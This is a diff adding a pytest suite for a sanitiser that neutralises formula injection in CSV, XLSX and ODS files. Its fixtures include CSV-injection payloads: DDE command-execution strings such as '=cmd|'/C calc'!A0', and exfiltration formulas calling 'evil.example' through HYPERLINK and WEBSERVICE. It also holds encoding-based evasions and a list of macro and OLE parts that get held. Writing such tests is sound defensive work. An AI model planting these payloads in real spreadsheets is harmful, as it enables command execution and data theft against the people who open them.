@@ -1,0 +1,251 @@
+"""Nothing that a cell writes leaves as a table with a live formula from data; numbers and plain formulas stay."""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+import xlsxwriter
+from openpyxl.comments import Comment
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+
+from workers.delivery.safe_tables import Checked, is_plain, make_safe
+
+LIVE = (
+    "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?d="&A1,"more")', '=WEBSERVICE("https://evil.example")',
+    '=IMPORTXML("https://evil.example","//a")', '=DDE("soffice";"file";"A1")', "+cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－x", "＠x", "=1+1", "-x",
+)  # fmt: skip
+NUMBERS = ("-5", "+7", "-1,234.50", "-12%", "-3.5e4", "(12)", "-€5", "-")
+EXTERNAL = ("[book.xlsx]Sheet1!A1", "'C:\\[a.xlsx]S'!A1", "'file:///x'#S.A1", "INDIRECT(A1)", "_xludf.X(1)", "CALL(1)")
+FILES = Path(__file__).parents[1] / "profiling" / "files"
+
+
+def test_a_formula_is_plain_when_it_is_made_of_known_functions_and_own_cells() -> None:
+    for formula in (
+        "=SUM(A1:A5)",
+        "=B2*(1+$C$1)/2",
+        "='My sheet'!A1&\" | x\"",
+        '=IF(A1>0,"yes [1]","no")',
+        "=Sheet2!A:A",
+        "A1",
+    ):
+        assert is_plain(formula), formula
+    for formula in (*LIVE[:8], *EXTERNAL):
+        assert not is_plain(formula), formula
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "latin-1"])
+@pytest.mark.parametrize(("name", "separator"), [("t.csv", ","), ("t.csv", ";"), ("t.tsv", "\t")])
+def test_in_text_files_no_cell_begins_like_a_formula(tmp_path: Path, name: str, separator: str, encoding: str) -> None:
+    live = [cell for cell in LIVE if encoding != "latin-1" or cell.isascii()]
+    rows = [
+        ["name", live[0]],
+        *([cell, "é"] for cell in live),
+        *([cell, "1"] for cell in NUMBERS if encoding != "latin-1" or "€" not in cell),
+    ]
+    text = io.StringIO()
+    csv.writer(text, delimiter=separator).writerows(rows)
+    file = tmp_path / name
+    file.write_bytes(text.getvalue().encode(encoding))
+    checked = make_safe(name, file)
+    assert (checked.held, checked.changed) == (False, len(live) + 1)
+    with file.open(encoding=encoding, newline="") as safe:
+        read = list(csv.reader(safe, delimiter=separator))
+    assert [row[0] for row in read[1 + len(live) :]] == [row[0] for row in rows[1 + len(live) :]], (
+        "numbers stay numbers"
+    )
+    assert all(row[0].startswith("'") for row in read[1 : 1 + len(live)])
+    assert read[0][1].startswith("'"), "also in the header"
+
+
+def test_a_cell_of_another_separator_is_no_way_around(tmp_path: Path) -> None:
+    file = tmp_path / "t.csv"
+    file.write_text("a,b\nx;=cmd|' /C calc'!A0;y,\"2\n=1+1\"\n")
+    make_safe("t.csv", file)
+    assert "x;'=cmd" in file.read_text()
+    assert "2\n'=1+1" in file.read_text()
+
+
+def test_a_harmless_text_file_keeps_its_bytes(tmp_path: Path) -> None:
+    file = tmp_path / "t.csv"
+    data = b'"a" ,b\r\n"x, y",-5\n\xff\xfe,"said ""so"""\n'
+    file.write_bytes(data)
+    assert make_safe("t.csv", file) == Checked()
+    assert file.read_bytes() == data
+
+
+def saved(book: openpyxl.Workbook, path: Path) -> Path:
+    book.save(path)
+    return path
+
+
+def whole(path: Path) -> str:
+    with zipfile.ZipFile(path) as archive:
+        return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
+
+
+def test_in_a_workbook_only_plain_formulas_stay(tmp_path: Path) -> None:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for cell in ("=cmd|'/C calc'!A0", *LIVE[1:5], *(f"={each}" for each in EXTERNAL)):
+        sheet.append([cell, -5, "=SUM(B1:B2)"])
+    sheet.append(["plain text", -1.5, "=B1*2"])
+    sheet["D1"] = LIVE[0]
+    sheet["D2"].comment = Comment(LIVE[0], "boss")
+    book.create_sheet("=cmd Summary")
+    book.defined_names["evil"] = DefinedName("evil", attr_text="cmd|'/C calc'!A0")
+    book.defined_names["fine"] = DefinedName("fine", attr_text="Sheet!$A$1:$B$2")
+    rule = DataValidation(type="list", formula1='=WEBSERVICE("https://evil.example")')
+    sheet.add_data_validation(rule)
+    rule.add("E1")
+    sheet["E2"].hyperlink = "https://evil.example/x"
+    path = saved(book, tmp_path / "t.xlsx")
+    checked = make_safe("t.xlsx", path)
+    assert not checked.held
+    safe = openpyxl.load_workbook(path)
+    rows = list(safe["Sheet"].iter_rows())
+    assert all(row[0].data_type != "f" for row in rows)
+    assert rows[0][0].value == "'=cmd|'/C calc'!A0"
+    assert [row[1].value for row in rows][:2] == [-5, -5]
+    assert all(row[2].data_type == "f" for row in rows if row[2].value)
+    assert rows[0][3].data_type != "f"
+    assert safe.defined_names["evil"].attr_text == "0"
+    assert safe.defined_names["fine"].attr_text == "Sheet!$A$1:$B$2"
+    assert safe.sheetnames == ["Sheet", "=cmd Summary"], "a name is a text"
+    assert 'Target="https://evil.example/x"' not in whole(path)
+    assert "<formula1>0</formula1>" in whole(path)
+    assert make_safe("t.xlsx", path).changed <= 1, "what is safe stays as it is, but for the link that leads nowhere"
+
+
+def test_a_formula_that_shares_a_live_one_goes_with_it(tmp_path: Path) -> None:
+    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
+    rows = (
+        '<row r="1"><c r="A1"><f t="shared" ref="A1:A2" si="0">WEBSERVICE(B1)</f><v>1</v></c></row>'
+        '<row r="2"><c r="A2"><f t="shared" si="0"/><v>2</v></c></row>'
+    )
+    repack(path, {"xl/worksheets/sheet1.xml": SHEET.format(rows)})
+    assert make_safe("t.xlsx", path).changed == 2
+    assert "<f" not in whole(path).partition("sheetData")[2].partition("/sheetData")[0]
+
+
+SHEET = (
+    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
+)
+
+
+def repack(path: Path, parts: dict[str, str], *, encoding: str = "utf-8") -> None:
+    with zipfile.ZipFile(path) as archive:
+        held = {name: archive.read(name) for name in archive.namelist()}
+    held |= {name: text.encode(encoding) for name, text in parts.items()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in held.items():
+            archive.writestr(name, data)
+
+
+def test_another_prefix_or_encoding_hides_no_formula(tmp_path: Path) -> None:
+    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
+    sheet = (
+        '<?xml version="1.0" encoding="UTF-16"?>'
+        '<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
+        '<x:row r="1"><x:c r="A1"><x:f>WEBSERVICE(<![CDATA["https://evil.example"]]>)</x:f></x:c></x:row>'
+        "</x:sheetData></x:worksheet>"
+    )
+    repack(path, {"xl/worksheets/sheet1.xml": sheet}, encoding="utf-16")
+    assert make_safe("t.xlsx", path) == Checked(changed=1)
+    assert openpyxl.load_workbook(path).active["A1"].data_type == "s"
+
+
+@pytest.mark.parametrize(
+    "part",
+    [
+        "xl/vbaProject.bin", "xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/embeddings/oleObject1.bin",
+        "xl/queryTables/queryTable1.xml", "xl/worksheets/../evil.xml", "customUI/customUI.xml",
+        "xl/activeX/activeX1.xml",
+        "xl/macrosheets/sheet1.xml",
+    ],
+)  # fmt: skip
+def test_a_workbook_with_parts_that_run_or_fetch_is_held(tmp_path: Path, part: str) -> None:
+    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
+    repack(path, {part: "<a/>"})
+    assert make_safe("t.xlsx", path) == Checked(held=True)
+
+
+def test_entities_lies_and_bombs_are_held(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = saved(openpyxl.Workbook(), tmp_path / "t.xlsx")
+    repack(path, {"xl/sharedStrings.xml": '<!DOCTYPE a [<!ENTITY b "=1">]><sst>&b;</sst>'})
+    assert make_safe("t.xlsx", path).held
+    saved(openpyxl.Workbook(), path)
+    monkeypatch.setattr("workers.delivery.safe_tables._UNPACKED", 1_000)
+    assert make_safe("t.xlsx", path).held
+    path.write_bytes(b"=cmd|calc")
+    assert make_safe("t.xlsx", path).held, "no zip at all"
+    assert make_safe("t.xlsm", path).held
+    assert make_safe("t.xls", path).held
+    assert make_safe("notes.md", path) == Checked()
+
+
+def pandas_book(path: Path) -> None:
+    pd.DataFrame({"n": [-1, 2], "t": ["a", "b"]}).to_excel(path, index=False, engine="openpyxl")
+
+
+def charted_book(path: Path) -> None:
+    with xlsxwriter.Workbook(str(path)) as book:
+        sheet = book.add_worksheet("Data")
+        sheet.write_column("A1", [1, -2, 3])
+        sheet.write_formula("A4", "=SUM(A1:A3)", value=2)
+        chart = book.add_chart({"type": "column"})
+        chart.add_series({"values": "=Data!$A$1:$A$3"})
+        sheet.insert_chart("C1", chart)
+        sheet.conditional_format("A1:A3", {"type": "cell", "criteria": ">", "value": 1})
+        sheet.add_table("E1:F3")
+
+
+@pytest.mark.parametrize("write", [pandas_book, charted_book])
+def test_an_ordinary_workbook_keeps_its_bytes(tmp_path: Path, write: Callable[[Path], None]) -> None:
+    path = tmp_path / "t.xlsx"
+    write(path)
+    before = path.read_bytes()
+    assert make_safe("t.xlsx", path) == Checked()
+    assert path.read_bytes() == before
+
+
+def test_an_open_document_keeps_plain_formulas_only(tmp_path: Path) -> None:
+    path = tmp_path / "t.ods"
+    shutil.copy(FILES / "ledger.ods", path)
+    before = path.read_bytes()
+    assert make_safe("t.ods", path) == Checked()
+    assert path.read_bytes() == before
+    with zipfile.ZipFile(path) as archive:
+        content = archive.read("content.xml").decode()
+    cell = '<table:table-cell table:formula="{}" office:value-type="float" office:value="1"/>'
+    formulas = (
+        "of:=SUM([.A1:.B2])",
+        "of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)",
+        "msoxl:=cmd|'/C calc'!A0",
+        "of:=['file:///x'#$S.A1]",
+    )
+    cells = "".join(cell.format(formula) for formula in formulas)
+    repack(
+        path,
+        {
+            "content.xml": content.replace(
+                "</table:table>", f"<table:table-row>{cells}</table:table-row></table:table>", 1
+            )
+        },
+    )
+    assert make_safe("t.ods", path) == Checked(changed=3)
+    assert "of:=SUM([.A1:.B2])" in whole(path)
+    assert "DDE" not in whole(path)
+    assert "cmd|" not in whole(path)
+    repack(path, {"Basic/Standard/Module1.xml": "<a/>"})
+    assert make_safe("t.ods", path).held
